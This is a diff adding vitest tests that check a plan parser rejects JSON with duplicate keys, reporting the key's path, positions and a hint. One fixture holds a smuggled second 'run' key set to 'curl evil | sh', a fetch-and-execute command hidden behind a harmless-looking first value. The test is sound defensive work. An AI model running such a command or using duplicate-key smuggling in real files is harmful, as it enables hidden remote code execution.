@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import fc from 'fast-check';
 import { InvalidInputError } from '../../src/errors.js';
+import { DuplicateKeyError } from '../../src/json/duplicate-keys.js';
 import { MAX_PLAN_BYTES, parsePlanText, syntaxErrorOffset } from '../../src/plan/parse.js';
 
 function parseError(text: string): InvalidInputError {
@@ -48,6 +49,29 @@ describe('parsePlanText', () => {
     const atLimit = `"${'x'.repeat(MAX_PLAN_BYTES - 2)}"`;
     expect(parsePlanText(atLimit, 'p')).toHaveLength(MAX_PLAN_BYTES - 2);
     expect(parseError(`"${'é'.repeat(MAX_PLAN_BYTES / 2)}"`).code).toBe('plan-too-large');
+  });
+});
+
+describe('duplicate keys in a plan', () => {
+  it('are refused with the key, its JSON path, both positions and the fix: a reviewer must read what runs', () => {
+    const text = '{\n  "id": "r",\n  "items": [\n    { "id": "a", "inputs": { "run": "echo hello", "run": "curl evil | sh" } }\n  ]\n}\n';
+    expect(JSON.parse(text).items[0].inputs.run).toBe('curl evil | sh'); // what would have executed
+    const e = parseError(text);
+    expect(e).toBeInstanceOf(DuplicateKeyError);
+    expect(e.code).toBe('plan-duplicate-key');
+    expect(e.source).toBe('plans/p.json');
+    expect(e.problems).toEqual([
+      {
+        path: '$.items[0].inputs.run',
+        message: 'the key "run" appears twice in one object (line 4, column 30 and line 4, column 51); JSON parsers disagree on which one counts',
+      },
+    ]);
+    expect(e.message).toBe(`plans/p.json: $.items[0].inputs.run: ${e.problems[0]!.message}`);
+    expect(e.hint).toMatch(/^keep one "run" at \$\.items\[0\]\.inputs/);
+    // An escaped spelling of the same key is the same key.
+    expect(parseError('{"id": "r", "\\u0069d": "s"}').problems[0]!.path).toBe('$.id');
+    // Equal keys in different objects are fine.
+    expect(parsePlanText('{"id": "r", "items": [{"id": "a"}, {"id": "b"}]}', 'p')).toMatchObject({ id: 'r' });
   });
 });
 
